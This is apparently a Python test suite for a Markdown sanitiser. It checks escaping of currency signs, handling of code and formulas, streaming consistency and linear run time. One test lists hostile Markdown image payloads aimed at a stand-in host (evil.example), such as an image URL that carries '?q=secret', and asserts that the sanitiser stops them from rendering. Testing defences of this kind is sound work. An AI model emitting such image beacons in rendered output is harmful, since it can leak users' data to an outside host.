"""Foreign Markdown: no picture of another host loads, money stays money, pieces change nothing."""

from __future__ import annotations

import re
import string
import time

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from pages.widgets.markdown import Cleaner
from pages.widgets.text import clean, plain
from tests.foreign_text import CASES, Case

PARTS = st.sampled_from(
    ["![a](http://e/x.png)", "`", "```", "```py\n", "\n", "$", "$$", "$5 ", "x^2", "\\", "- ",
     "1. ", "> ", "~~~\n", "!", "[", "word ", " ", "\\(", "\\)", "**b**", ":red[x]", ":", "::a", " -- ",
     " -> ", "&#58;", "&", "<b>", "<", "https://a.b/c:d", "ht", "tps://", "]", "](", "    ", "\t", "\r",
     "\r\n", "2) ", "# ", "---\n", "|a|b|\n|-|-|\n", "\\[", "\\]", "****", "_", "~", "$$\nx\n$$\n",
     "x=1", ":material/a:"]
)  # fmt: skip


@pytest.mark.parametrize(
    ("given_text", "drawn"),
    [
        ("It costs $5 and $10.", "It costs \\$5 and \\$10."),
        ("US$ 3, $USD", "US\\$ 3, \\$USD"),
        ("let $x^2$ be", "let $x^2$ be"),
        ("$$\na b\n$$\n$7", "$$\na b\n$$\n\\$7"),
        ("\\( x \\) and \\[ y \\]", "$x$ and $$y$$"),
        ("`$x` and `$5`", "`$x` and `$5`"),
        ("```sh\necho $HOME ![](x)\n```\n$5", "```sh\necho $HOME ![](x)\n```\n\\$5"),
        ("`unclosed $4", "\\`unclosed \\$4"),
        ("already \\$5", "already \\$5"),
        ("wow! [link](https://a.example)", "wow! [link](https://a.example)"),
    ],
)
def test_money_is_escaped_and_formulas_and_code_are_kept(given_text: str, drawn: str) -> None:
    assert clean(given_text) == drawn


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "[![x](https://evil.example/a)](https://evil.example/b)",
        "![x][ref]\n\n[ref]: https://evil.example/a",
        "- ```\n  code\n![x](https://evil.example/a)",
        "> ```\n![x](https://evil.example/a)",
        "```not a `fence`\n![x](https://evil.example/a)",
        "`open ![x](https://evil.example/a)",
        "```\ncode\n```\n![x](https://evil.example/a)",
        "$$ ![x](https://evil.example/a)",
    ],
)
def test_no_picture_of_another_host_is_drawn(hostile: str) -> None:
    assert "![" not in clean(hostile)
    assert "evil.example" in clean(hostile)


@settings(max_examples=400)
@given(st.lists(PARTS, max_size=25), st.lists(st.integers(1, 5), min_size=1, max_size=9))
def test_the_pieces_in_which_a_text_comes_change_nothing(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    cleaner, drawn, position, turn = Cleaner(), "", 0, 0
    while position < len(text):
        size = cuts[turn % len(cuts)]
        drawn += cleaner.feed(text[position : position + size])
        position, turn = position + size, turn + 1
    assert drawn + cleaner.close() == clean(text)


@given(st.lists(PARTS, max_size=25))
def test_no_letter_is_lost(parts: list[str]) -> None:
    text = "".join(parts).replace("&#58;", "")
    assume(not re.search(r"[`~]{3}[^\r\n]*[^\w\r\n`~]", text))  # what names no language may go
    shown = re.sub(r":color\[\\?([^\]]*)\](?:\{\})?", r"\1", clean(text)).replace("[picture: ", "[")
    shown = re.sub("%(?:3A|5B|5D|5F)", "", shown)
    assert re.sub(r"[^a-z0-9]", "", shown) == re.sub(r"[^a-z0-9]", "", text)


def test_labels_show_signs_instead_of_obeying_them() -> None:
    assert plain("**a** [b](c) $5") == "\\*\\*a\\*\\* \\[b\\]\\(c\\) \\$5"


def test_labels_show_no_icon_formula_arrow_or_number() -> None:
    assert plain(":smile: a::b at 10:30") == ":color[:]smile\\: a:color[:]:color[:]b at 10\\:30"
    assert plain("1. a -> b") == "1\\. a \\-:color[\\>]{} b"


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_every_cut_of_a_stream_is_a_beginning_of_the_whole(case: Case) -> None:
    whole = clean(case.source)
    for cut in range(0, len(case.source), max(1, len(case.source) // 40)):
        assert whole.startswith(Cleaner().feed(case.source[:cut]))


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_no_picture_and_no_diagram_of_the_corpus_is_left(case: Case) -> None:
    cleaned = clean(case.source)
    code = r"(?ms)^[ >-]*(`{3,}|~{3,}).*?(?:^[ >]*\1[ ]*$|\Z)|(`+)[^\n]*?\2"
    assert "![" not in re.sub(code, "", cleaned)
    assert not re.search(r"(?im)^\W*(?:`{3,}|~{3,})[^\n]*mermaid", cleaned)


UNITS = [*string.punctuation, "a", " ", "\n", "\t", "\r", "$$", "``", "`` ` ", "](", "[a](", "![", "&a",
         "<a:", "https://", "http://a(", "*a", "**a*_", "> ", "- ", "1. ", "> \n", "    x\n", "~~~\n",
         "- ```\n", "\\(", "\\[\n", "$$\n", "$$a\nb ", ":a", ":a[", "  - x\n", " `x ", "$a "]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
@pytest.mark.parametrize("piece", [1_000_000, 64])
def test_time_grows_with_the_length_alone(unit: str, piece: int) -> None:
    """Also piece by piece. A quadratic cleaner would take a hundred times as long for ten times as much."""

    def seconds(length: int) -> float:
        text = unit * (length // len(unit))
        begun = time.process_time()
        cleaner = Cleaner()
        for at in range(0, len(text), piece):
            cleaner.feed(text[at : at + piece])
        cleaner.close()
        return time.process_time() - begun

    small = min(seconds(20_000) for _ in range(2))
    assert seconds(200_000) < 40 * small + 0.05


def test_a_label_of_a_megabyte_is_quick() -> None:
    for unit in ":-<&1.a":
        begun = time.process_time()
        plain(unit * 1_000_000)
        assert time.process_time() - begun < 30, unit
